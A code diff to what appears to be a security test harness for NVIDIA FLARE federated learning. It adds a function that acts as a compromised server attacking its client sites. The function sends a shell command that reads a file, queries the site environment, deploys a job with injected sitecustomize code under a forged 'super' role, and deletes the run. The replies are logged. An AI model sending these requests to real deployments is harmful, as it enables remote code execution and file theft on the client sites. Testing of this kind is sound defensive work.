@@ -17,11 +17,13 @@ import contextlib
 import hashlib
 import importlib.abc
 import importlib.machinery
+import io
 import json
 import os
 import signal
 import sys
 import time
+import zipfile
 from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Any
@@ -148,12 +150,49 @@ def _transport(module: Any) -> None:
             if first is not raw and reach(f"send {op} {party}", "before", 0) == "replay":
                 sent[party] = first
         number = max(claimed_address(raw, len(raw)).round.number for raw in questions.values())
+        if (turned := reach("turn", "before", number)) is not None:
+            _turn(self, turned)
         reach(op, "before", number)
         delivery = exchange(self, op, sent, timeout, answered)
         reach(op, "after", number)
         return delivery
 
     module.FlareTransport.exchange = exchanged
+
+
+def _turn(transport: Any, order: str) -> None:
+    """What a server that turned against its sites could send beside tasks; a site's answers go into the journal."""
+    from nvflare.fuel.f3.cellnet.utils import new_cell_message
+    from nvflare.private.admin_defs import Message
+
+    site, file = order.split(" ")
+    cell = transport._fl_ctx.get_engine().get_cell()
+    config = _folder() / "config"
+
+    def send(attack: str, topic: str, body: Any, **headers: Any) -> None:
+        message = Message(topic, body)
+        for name, value in headers.items():
+            message.set_header(name, value)
+        asked = new_cell_message({}, message)
+        reply = cell.send_request(channel="admin", target=site, topic=topic, request=asked, timeout=15.0)
+        journal("turned", attack=attack, answer=str(getattr(reply.payload, "body", reply.payload)))
+
+    def job(**more: str) -> bytes:
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as archive:
+            for path in config.iterdir():
+                archive.writestr(f"config/{path.name}", path.read_text(encoding="utf-8"))
+            for name, text in more.items():
+                archive.writestr(f"custom/{name}.py", text)
+        return out.getvalue()
+
+    who = {"submitter_name": "x", "submitter_org": "x", "submitter_role": "super"}
+    new = {"job_id": "00000000-0000-4000-8000-000000000000", "job_meta": who, "app_name": "app"}
+    send("read a file", "sys.shell", f"cat {file}")
+    send("where is it", "sys.report_env", "")
+    send("run code", "train.deploy", job(sitecustomize="print('taken over')"), **new)
+    send("forget", "train.deploy", job(), **{**new, "job_id": "privet"})
+    send("delete", "train.delete_run", "", job_id="privet")
 
 
 def _aggregate(module: Any) -> None:
